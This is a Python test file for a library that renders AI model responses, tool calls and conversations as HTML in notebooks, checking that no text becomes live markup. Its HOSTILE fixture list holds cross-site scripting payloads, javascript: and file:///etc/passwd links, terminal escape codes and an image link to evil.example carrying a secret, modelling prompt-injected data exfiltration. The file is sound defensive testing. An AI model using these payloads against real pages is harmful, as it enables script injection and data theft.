"""What is shown of values in a notebook: all of the text, and none of it as markup."""

from __future__ import annotations

import re
from decimal import Decimal
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import promptstream
from promptstream.values import display, markdown
from promptstream.values.markdown import Markdown, plain, render
from promptstream.values.message import Document, Message, Reasoning, Text, ToolCall, ToolResult
from promptstream.values.response import Response
from promptstream.values.timing import Timing
from promptstream.values.transcript import Transcript
from promptstream.values.usage import Usage

TAGS = {"div", "span", "p", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "hr", "br", "a"}
TAGS |= {"table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6", "details", "summary"}
ATTRIBUTES = {"style", "class", "href", "title", "target", "rel", "open", "role", "start"}
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](/api/shutdown)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "```html onload=x\n<script>\n```",
    "````\n```\n<b>",
    "`` ` <b> ``",
    "|<b>|\n|-|\n|<i onclick=x>|",
    "<!-- x -->",
    "<![CDATA[x]]>",
    "<?php x ?>",
    "&lt;script&gt;",
    "$\\href{javascript:alert(1)}{x}$",
    "\\(<img src=x>\\)",
    "$$\n</div><script>x</script>\n$$",
    "[a]: javascript:x\n\n[a]",
    "\x1b[31mred\x1b]0;title\x07\x9b1m\u202e",
    "\ud800",
    "</div></details></pre>",
    *"<>&\"'`*_[]()!$\\|#-\n \t:/=",
    "x",
    "https://a.example",
]
MANY, SOME = settings(deadline=None), settings(max_examples=40, deadline=None)
texts = st.lists(st.sampled_from(HOSTILE) | st.text(max_size=4), max_size=25).map("".join)


class Seen(HTMLParser):
    """Read HTML as a browser does, and keep what would be live in it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.wrong: list[str] = []
        self.links: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judge a tag and its attributes."""
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.wrong.append(f"<{tag} {name}>")
            if name == "href":
                self.links.append(value or "")
            if name == "class" and value != "promptstream":
                self.wrong.append(f"<{tag} class={value}>")
            if name == "style" and re.search(r"url|position|expression|var\(", value or ""):
                self.wrong.append(f"<{tag} style={value}>")

    def handle_data(self, data: str) -> None:
        """Keep the text."""
        self.text += data

    def unexpected(self, *args: object) -> None:
        """Judge a comment, a declaration or an instruction."""
        self.wrong.append(repr(args))

    handle_comment = handle_decl = handle_pi = unknown_decl = unexpected


def check(html: str) -> Seen:
    """Make sure that nothing in *html* is live but what this library put there."""
    seen = Seen(html)
    assert seen.wrong == []
    assert all(re.match(r"(https?://|mailto:)", link, re.I) for link in seen.links)
    assert not CONTROLS.search(html)
    html.encode()
    return seen


# Text


@MANY
@given(texts)
def test_no_markdown_becomes_markup_of_its_own(text: str) -> None:
    """Tags, handlers, scripts and links of other schemes stay text."""
    check(render(text))


@MANY
@given(texts)
def test_plain_text_shows_every_character(text: str) -> None:
    """Nothing is read as markup, and nothing but controls is left out."""
    seen = check(plain(text))
    assert seen.text == markdown.clean(markdown.mend(text))


@SOME
@given(texts, st.lists(st.integers(0, 300), max_size=5))
def test_no_way_of_coming_in_pieces_makes_markup(text: str, cuts: list[int]) -> None:
    """Each look on the way is as safe as the last one, which shows what came whole would show."""
    text = markdown.mend(text)
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    growing = Markdown()
    for start, end in pairwise(places):
        growing.add(text[start:end])
        check("".join(html for html, _ in growing.sections()))
    growing.end()
    assert [html for html, _ in growing.sections()] == [render(text)]


@SOME
@given(texts)
def test_a_whole_transcript_is_safe(text: str) -> None:
    """Thoughts, calls, results, warnings and errors are no exception."""
    transcript = Transcript()
    call = ToolCall(text, text, {text: text}, text)
    transcript.take(Response(text=text, reasoning=text, tool_calls=(call,)))
    transcript.add(promptstream.Chunk(promptstream.ChunkType.TOOL_CALL_DELTA, tool_call=ToolCall("", text)))
    result = ToolResult(text, text, text)
    transcript.add(promptstream.Chunk(promptstream.ChunkType.TOOL_RESULT, tool_result=result))
    transcript.end(Response(warnings=(text,), model=text, raw_finish_reason=text), ValueError(text))
    for block in transcript.blocks:
        for html, told in block.sections():
            check(html)
            assert not CONTROLS.search(told)


@SOME
@given(texts)
def test_no_value_shows_markup_of_its_own(text: str) -> None:
    """Answers, conversations and packs escape all that somebody else wrote."""
    call = ToolCall("1", text, {text: text}, text, text)
    response = Response(text, text, tool_calls=(call,), pending=(call,), model=text, warnings=(text,))
    check(display.of_response(response))
    check(display.of_stream(text, response, over=False))
    parts = [Text(text), Reasoning(text), call, ToolResult("1", text, text), ToolResult("2", text, text, error=True)]
    parts.append(Document(url="https://a.example", name=text))
    messages = [Message(role, parts) for role in ("user", "assistant", "tool")]
    check(display.of_conversation(text, messages, last=response, usage=Usage(), cost=None))
    check(display.of_pack(text, text, [(text, text, [text], [text])], 3))


def test_markdown_is_shown_as_such() -> None:
    """Emphasis, lists, tables, code and links look as they should; prices are no formulas, and formulas stay whole."""
    html = render("# T\n\n*e* **s** ~~d~~ `c<d`\n\n- one\n\n|a|b|\n|-|-:|\n|1|2|\n\n```python\nx < y\n```\n\n> q")
    for piece in ("<h1>T</h1>", "<em>e</em>", "<strong>s</strong>", "<s>d</s>", "<code>c&lt;d</code>", "<li>one</li>"):
        assert piece in html
    assert '<td style="text-align:left">1</td>' in html
    assert '<td style="text-align:right">2</td>' in html
    assert "x &lt; y\n</pre>" in html
    assert 'href="https://a.example/?a=1&amp;b"' in render("[x](https://a.example/?a=1&b)")
    assert render("$5 and $6") == "<p><span>$</span>5 and <span>$</span>6</p>\n"
    assert render(r"$a_1*b*c$ \(x\\y\) `$z$`") == "<p>$a_1*b*c$ \\(x\\\\y\\) <code>$z$</code></p>\n"


def test_a_picture_is_a_link_that_nothing_loads() -> None:
    """What a model was made to put into its address is not told by looking at the answer."""
    seen = check(render("![a cat](https://evil.example/?q=secret)"))
    assert seen.links == ["https://evil.example/?q=secret"]
    assert seen.text == "🖼 a cat\n"


def test_a_long_answer_comes_in_sections_of_which_the_last_one_grows() -> None:
    """What is settled is not made anew, no block is torn, and all of it is there."""
    blocks = [f"## Part {n}\n\n```\n" + f"line {n}\n\n" * 30 + "```\n\n- a\n- b\n\n" for n in range(200)]
    growing, seen = Markdown(), []
    for block in blocks:
        growing.add(block)
        seen.append(growing.sections())
    last = seen[-1]
    assert 3 < len(last) < 10
    assert all(len(text) < 3 * markdown.SECTION for _, text in last)
    assert "".join(text for _, text in last) == "".join(blocks)
    assert "".join(html for html, _ in last) == render("".join(blocks[:100])) + render("".join(blocks[100:]))
    for earlier in seen:
        assert earlier[:-1] == last[: len(earlier) - 1]


def test_text_that_is_made_to_take_long_shows_as_it_is() -> None:
    """A paragraph without an end is not read as Markdown over and over."""
    text = "[" * (markdown.LARGEST + 1)
    growing = Markdown()
    growing.add(text)
    assert render(text) == growing.sections()[0][0] == markdown.preformatted(text)


def test_without_the_extra_text_shows_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    """A value is shown in any notebook."""
    monkeypatch.setattr(markdown, "available", lambda: False)
    assert Seen(render("*a*\n<b>")).text == "*a*\n<b>"


# Values


def test_an_answer_shows_its_text_thoughts_calls_and_figures() -> None:
    """What stands in a cell is the answer; unknown figures say so."""
    call = ToolCall("1", "look_up", {"city": "Oslo"})
    response = Response("*Hi*", "Hm.", tool_calls=(call,), finish_reason="stop", model="toy", complete=True)
    html = response._repr_html_()
    seen = check(html)
    assert "<em>Hi</em>" in html
    for piece in ("Reasoning, 3 characters", "Hm.", "look_up(city='Oslo')", "toy | Cost: unknown", "Total: unknown"):
        assert piece in seen.text
    assert "role=" not in html


@pytest.mark.parametrize(
    ("fields", "told"),
    [
        ({"finish_reason": "length", "complete": True}, "The answer was cut at the token limit."),
        ({"finish_reason": "content_filter", "complete": True}, "The answer was stopped by a content filter."),
        ({"finish_reason": "refusal", "complete": True}, "The model refused."),
        ({"finish_reason": "cancelled"}, "Stopped: this is what had come."),
        ({"finish_reason": "other", "raw_finish_reason": "odd"}, "The answer ended for another reason: odd."),
        ({"finish_reason": None}, "The answer is not whole: this is what had come."),
        ({"finish_reason": "stop", "complete": True, "text": ""}, "The answer has no text."),
        ({"pending": (ToolCall("c1", "pay", {"sum": 3}),)}, "Waits for a decision: pay(sum=3) [c1]."),
        (
            {"finish_reason": "tool_calls", "tool_calls": (ToolCall("c1", "pay"),)},
            "The model asks for tools, which nobody runs here: pay.",
        ),
        ({"finish_reason": "stop", "complete": True}, ""),
    ],
)
def test_an_ending_that_is_not_plain_is_told(fields: dict, told: str) -> None:
    """Nobody takes a part for the whole."""
    response = Response(**{"text": "Hi", **fields})
    assert display.note(response) == told
    assert told in Seen(response._repr_html_()).text


def test_a_stream_shows_how_far_it_is_and_goes_on() -> None:
    """Looking at it takes nothing from it and sends nothing."""
    provider = promptstream.providers.Scripted([["Once ", "upon"]])
    stream = provider.stream("Hi")
    assert Seen(stream._repr_html_()).text == "Stream, not started: 0 characters so far"
    assert provider.requests == []
    for _ in stream:
        break
    stream = promptstream.providers.Scripted([["Once ", "upon"]]).stream("Hi")
    chunks = iter(stream)
    next(chunks)
    assert Seen(stream._repr_html_()).text == "Stream, running: 5 characters so farOnce\n"
    so_far = Seen(stream.response._repr_html_()).text
    assert so_far == "Once\nThe answer is not whole: this is what had come."
    assert stream.result().text == "Once upon"
    whole = Seen(stream._repr_html_()).text
    assert whole.startswith("Stream, whole: 9 charactersOnce upon\nscripted | Cost: $0.0000 | ")
    with promptstream.providers.Scripted(["Hi"]).stream("Hi").buffered() as buffered:
        buffered.result()
        assert "BufferedStream, whole: 2 characters" in Seen(buffered._repr_html_()).text


def test_a_conversation_shows_its_messages_and_what_they_cost() -> None:
    """Results stand with their calls; what is unknown is not 0."""
    usage = Usage(1200, 34, cached=1000)
    provider = promptstream.providers.Scripted([[ToolCall("c1", "add", {"a": 1}), usage], ["It is *2*.", usage]])

    def add(a: int) -> int:
        """Add one."""
        return a + 1

    with promptstream.chat("Be brief.", provider=provider, tools=[add]) as conv:
        assert "0 messages" in Seen(conv._repr_html_()).text
        conv.send("What is 1 + 1?")
        html = conv._repr_html_()
    text = check(html).text
    assert "user" in text
    assert "add(a=1) → 2" in text
    assert "<em>2</em>" in html
    assert "tool" not in text
    assert text.endswith("Conversation2,4002,00068–2,468$0.0000")
    many = [Message("user", f"message {n}") for n in range(60)]
    shown = Seen(display.of_conversation("", many, last=None, usage=Usage(), cost=Decimal("0.00012"))).text
    assert "10 earlier messages are not shown." in shown
    assert "message 9" not in shown
    assert shown.endswith("Conversation–––––$0.00012")


def test_a_pack_shows_its_prompts() -> None:
    """What it has, what each prompt needs, and what is wrong with it."""
    pack = promptstream.load({"name": "Letters", "prompts": {"hello": {"system_template": "Be {{manner}}."}}})
    text = check(pack._repr_html_()).text
    assert text.startswith("Letters1 prompthello")
    assert "Be {{manner}}." in text
    assert "Pack(" not in text
    bare = promptstream.load({"prompts": {"a": {"system_template": "A"}, "b": {"system_template": "B"}}})
    assert check(bare._repr_html_()).text.startswith("A pack without a name2 prompts")


def test_long_results_are_cut_where_they_show() -> None:
    """A megabyte that a tool gave does not end in the notebook's file."""
    html = display.call(ToolCall("1", "read"), ToolResult("1", "read", "x" * 1_000_000))
    assert len(html) < 25_000
    assert "… (1,000,000 characters)" in html


def test_figures_that_are_known_are_shown() -> None:
    """The line below an answer names the model and all that is known."""
    timing = Timing(first=0.5, total=2.0, chunks=3, characters=9)
    response = Response("Hi", usage=Usage(3, 4), cost=Decimal("0.5"), timing=timing, model="toy", finish_reason="stop")
    assert display.figures(response) == (
        "toy | Cost: $0.5000 | First text: 500ms | Total: 2.0s | Tokens: 7 (3 in, 4 out)"
    )
